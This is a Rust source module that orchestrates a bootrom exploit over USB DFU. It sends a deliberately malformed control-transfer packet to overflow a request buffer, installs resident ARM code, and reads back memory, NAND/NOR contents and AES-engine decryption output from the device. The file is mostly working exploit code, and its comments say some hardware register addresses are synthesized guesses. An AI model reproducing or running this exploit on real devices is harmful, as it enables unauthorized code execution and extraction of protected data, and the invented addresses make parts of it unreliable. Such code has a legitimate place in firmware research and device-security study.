//! Exploit orchestrator (component D): drives the overflow primitive,
//! the "haxdfu" resident-code installer, and the post-exploit
//! memory/NAND/NOR read helpers built on top of it.

use crate::asm::{BranchTarget, Condition, DataSource, LoadSource, Program, Register, Statement, StoreDest};
use crate::device::{DeviceKind, ExploitParameters};
use crate::dfu;
use crate::usb::{request_type, UsbTransport};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

/// Size of the per-call input the AES-chaining primitive consumes
/// (16-byte chaining prefix + 48-byte ciphertext block), and of the
/// output it yields back (the full 0x40-byte scratch read, of which
/// the first 0x10 bytes are chaining state and the remaining 0x30 are
/// plaintext). Per spec.md §4.3's `decrypt(block16-pre, block48)`.
const DECRYPT_INPUT_LEN: usize = 0x40;
const DECRYPT_PLAINTEXT_LEN: usize = 0x30;

#[derive(thiserror::Error, Debug)]
pub enum ExploitError {
    #[error(transparent)]
    Usb(#[from] crate::usb::UsbError),
    #[error(transparent)]
    Asm(#[from] crate::asm::AsmError),
    #[error(transparent)]
    Dfu(#[from] dfu::DfuError),
    #[error("overflow primitive did not trigger after {0} attempts")]
    OverflowDidNotTrigger(u32),
    #[error("operation cancelled")]
    Cancelled,
}

/// Shared cancellation flag, checked between retry attempts. Modeled as a
/// plain atomic rather than threading a `CancellationToken` type through
/// every call, since the only consumer is a Ctrl-C handler (see
/// `flows::install_ctrlc_handler`).
#[derive(Clone)]
pub struct CancelToken(Arc<AtomicBool>);

impl CancelToken {
    pub fn new() -> Self {
        Self(Arc::new(AtomicBool::new(false)))
    }

    pub fn cancel(&self) {
        self.0.store(true, Ordering::SeqCst);
    }

    pub fn is_cancelled(&self) -> bool {
        self.0.load(Ordering::SeqCst)
    }
}

impl Default for CancelToken {
    fn default() -> Self {
        Self::new()
    }
}

const RETRY_ATTEMPTS: u32 = 10;
const RETRY_DELAY: Duration = Duration::from_millis(100);

/// Retries `attempt` up to [`RETRY_ATTEMPTS`] times with a 100ms delay
/// between tries, bailing out early if `cancel` fires. The bootrom's
/// overflow window is timing-sensitive enough that a single attempt
/// regularly misses it.
pub fn retry<T, E>(
    cancel: &CancelToken,
    mut attempt: impl FnMut() -> Result<T, E>,
) -> Result<T, ExploitError>
where
    E: Into<ExploitError>,
{
    let mut last_err = None;
    for _ in 0..RETRY_ATTEMPTS {
        if cancel.is_cancelled() {
            return Err(ExploitError::Cancelled);
        }
        match attempt() {
            Ok(v) => return Ok(v),
            Err(e) => last_err = Some(e.into()),
        }
        std::thread::sleep(RETRY_DELAY);
    }
    Err(last_err.unwrap_or(ExploitError::OverflowDidNotTrigger(RETRY_ATTEMPTS)))
}

/// Sends the deliberately-malformed control-transfer SETUP packet that
/// overflows the bootrom's fixed-size request buffer, landing attacker
/// bytes past it. Corresponds to `devices.go`'s per-device
/// `setup_packet`.
fn trigger_overflow(
    usb: &impl UsbTransport,
    params: &ExploitParameters,
    timeout: Duration,
) -> Result<(), crate::usb::UsbError> {
    let packet = &params.setup_packet;
    let request_type = packet[0];
    let request = packet[1];
    let value = u16::from(packet[2]) | u16::from(packet[3]) << 8;
    let index = u16::from(packet[4]) | u16::from(packet[5]) << 8;
    usb.control_out_expect_no_ack(request_type, request, value, index, &[], timeout)
}

/// Installs `program` at its target address by writing it into the
/// pre-overflow DFU download buffer, then firing the overflow so the
/// bootrom's corrupted return address jumps into it. Returns once the
/// device has accepted the resident code (it keeps running afterward;
/// callers read results back via further control transfers).
pub fn haxdfu(
    usb: &impl UsbTransport,
    kind: DeviceKind,
    params: &ExploitParameters,
    program: &Program,
    config_timeout: Duration,
    cancel: &CancelToken,
) -> Result<(), ExploitError> {
    let code = program.assemble()?;
    dfu::clean(usb)?;

    retry(cancel, || -> Result<(), ExploitError> {
        usb.control_out(
            request_type::HOST_TO_DEVICE_CLASS_INTERFACE,
            dfu::DfuRequest::Dnload as u8,
            0,
            0,
            &code,
            config_timeout,
        )
        .map_err(ExploitError::from)?;
        trigger_overflow(usb, params, config_timeout).map_err(ExploitError::from)?;
        Ok(())
    })?;

    let _ = kind;
    Ok(())
}

/// Installs `program`, then reads back `len` bytes via a class-interface
/// DFU UPLOAD. Shared by [`dumpmem`] and the NAND/NOR read flows, which
/// only differ in how `program` lands its result in the USB scratch
/// region.
pub fn run_and_read(
    usb: &impl UsbTransport,
    kind: DeviceKind,
    params: &ExploitParameters,
    program: &Program,
    len: u32,
    config_timeout: Duration,
    cancel: &CancelToken,
) -> Result<Vec<u8>, ExploitError> {
    haxdfu(usb, kind, params, program, config_timeout, cancel)?;

    let mut buf = vec![0u8; len as usize];
    usb.control_in(
        request_type::DEVICE_TO_HOST_CLASS_INTERFACE,
        dfu::DfuRequest::Upload as u8,
        0,
        0,
        &mut buf,
        config_timeout,
    )?;
    Ok(buf)
}

/// Reads `len` bytes from device memory at `addr` by installing a
/// handler-footer program that copies them into the USB-visible scratch
/// region, then pulling them out with a class-interface control-in
/// transfer. Mirrors `dumpmem` in spec.md §4.3.
pub fn dumpmem(
    usb: &impl UsbTransport,
    kind: DeviceKind,
    params: &ExploitParameters,
    addr: u32,
    len: u32,
    config_timeout: Duration,
    cancel: &CancelToken,
) -> Result<Vec<u8>, ExploitError> {
    let program = params.handler_footer(addr, len)?;
    run_and_read(usb, kind, params, &program, len, config_timeout, cancel)
}

/// Fixed MMIO addresses of the bootrom's AES engine: a 64-byte input
/// staging area, a one-word kick/status register, and the 64-byte output
/// the engine leaves after a decrypt round.
///
/// SYNTHESIZED: spec.md §4.3 grounds the call shape (64 bytes in, 64
/// bytes out, a copy-in/kick/copy-out sequence) but the retrieved source
/// does not carry the concrete register addresses; these model a
/// plausible memory-mapped block. See DESIGN.md.
const AES_INPUT_ADDR: u32 = 0x3c500000;
const AES_CONTROL_ADDR: u32 = 0x3c500040;
const AES_OUTPUT_ADDR: u32 = 0x3c500080;

/// Builds the resident program that copies `DECRYPT_INPUT_LEN` bytes
/// from `input_addr` into the AES engine's input region, kicks one
/// decrypt round, and runs the handler footer to copy the 0x40-byte
/// result back to the USB scratch region.
fn decrypt_program(params: &ExploitParameters, input_addr: u32) -> Result<Program, crate::asm::AsmError> {
    let mut listing = vec![
        Statement::Ldr { dest: Register::R0, src: LoadSource::Constant(input_addr) },
        Statement::Ldr { dest: Register::R1, src: LoadSource::Constant(AES_INPUT_ADDR) },
        Statement::Mov { dest: Register::R2, src: DataSource::Immediate(0) },
        Statement::Label("aes_copy_in".into()),
        Statement::Ldrb { dest: Register::R3, src: LoadSource::Deref(Register::R0, 0) },
        Statement::Strb { src: Register::R3, dest: StoreDest::Deref(Register::R1, 0) },
        Statement::Add { dest: Register::R0, src: Register::R0, operand: DataSource::Immediate(1) },
        Statement::Add { dest: Register::R1, src: Register::R1, operand: DataSource::Immediate(1) },
        Statement::Add { dest: Register::R2, src: Register::R2, operand: DataSource::Immediate(1) },
        Statement::Cmp { a: Register::R2, b: DataSource::Immediate(DECRYPT_INPUT_LEN as u32) },
        Statement::B { cond: Condition::Ne, target: BranchTarget::Label("aes_copy_in".into()) },
        Statement::Ldr { dest: Register::R4, src: LoadSource::Constant(AES_CONTROL_ADDR) },
        Statement::Mov { dest: Register::R5, src: DataSource::Immediate(1) },
        Statement::Str { src: Register::R5, dest: StoreDest::Deref(Register::R4, 0) },
    ];
    listing.extend(params.handler_footer(AES_OUTPUT_ADDR, DECRYPT_INPUT_LEN as u32)?.listing);
    Ok(Program { address: params.exec_addr, listing })
}

/// Runs the AES-chaining primitive once: `prev_tail` is the previous
/// call's last 16 ciphertext bytes (`None` for the very first block in a
/// chain), `block` is the next 48 bytes of ciphertext. Returns 0x30
/// bytes of plaintext, retrying up to 10 times with back-off on failure
/// per spec.md §4.3. Per spec.md §3/§4.3, `kind` doesn't change the
/// decrypt call shape -- only the per-device `params` addresses do --
/// but is threaded through for the same `Clean`/error-context purposes
/// `haxdfu`/`dumpmem` use it for.
pub fn decrypt_block(
    usb: &impl UsbTransport,
    kind: DeviceKind,
    params: &ExploitParameters,
    prev_tail: Option<&[u8; 16]>,
    block: &[u8; 0x30],
    config_timeout: Duration,
    cancel: &CancelToken,
) -> Result<[u8; DECRYPT_PLAINTEXT_LEN], ExploitError> {
    let _ = kind;
    let mut input = [0u8; DECRYPT_INPUT_LEN];
    input[..0x10].copy_from_slice(prev_tail.unwrap_or(&[0u8; 16]));
    input[0x10..].copy_from_slice(block);

    retry(cancel, || -> Result<[u8; DECRYPT_PLAINTEXT_LEN], ExploitError> {
        // Measure the code length with a placeholder address first, since
        // the program needs to know where its own trailing input buffer
        // will land once uploaded, and that depends on the code's own
        // assembled length.
        let placeholder = decrypt_program(params, 0)?;
        let code_len = placeholder.assemble()?.len() as u32;
        let input_addr = params.dfu_buf_addr + code_len;
        let program = decrypt_program(params, input_addr)?;
        let mut payload = program.assemble()?;
        payload.extend_from_slice(&input);

        dfu::clean(usb)?;
        usb.control_out(
            request_type::HOST_TO_DEVICE_CLASS_INTERFACE,
            dfu::DfuRequest::Dnload as u8,
            0,
            0,
            &payload,
            config_timeout,
        )?;
        trigger_overflow(usb, params, config_timeout)?;

        let mut buf = [0u8; DECRYPT_INPUT_LEN];
        usb.control_in(
            request_type::DEVICE_TO_HOST_CLASS_INTERFACE,
            dfu::DfuRequest::Upload as u8,
            0,
            0,
            &mut buf,
            config_timeout,
        )?;
        let mut plaintext = [0u8; DECRYPT_PLAINTEXT_LEN];
        plaintext.copy_from_slice(&buf[0x10..]);
        Ok(plaintext)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cancel_token_starts_uncancelled() {
        let token = CancelToken::new();
        assert!(!token.is_cancelled());
        token.cancel();
        assert!(token.is_cancelled());
    }

    #[test]
    fn retry_gives_up_after_budget() {
        let token = CancelToken::new();
        let mut attempts = 0;
        let result: Result<(), ExploitError> = retry(&token, || {
            attempts += 1;
            Err::<(), ExploitError>(ExploitError::Cancelled)
        });
        assert!(result.is_err());
        assert_eq!(attempts, RETRY_ATTEMPTS);
    }

    #[test]
    fn decrypt_program_input_address_follows_code_length() {
        let params = ExploitParameters::for_kind(DeviceKind::N5G);
        let placeholder = decrypt_program(&params, 0).unwrap();
        let code = placeholder.assemble().unwrap();
        // The trailing 0x40-byte input buffer must land immediately after
        // the assembled code, not overlapping it.
        let input_addr = params.dfu_buf_addr + code.len() as u32;
        let real = decrypt_program(&params, input_addr).unwrap();
        let real_code = real.assemble().unwrap();
        assert_eq!(real_code.len(), code.len());
    }
}
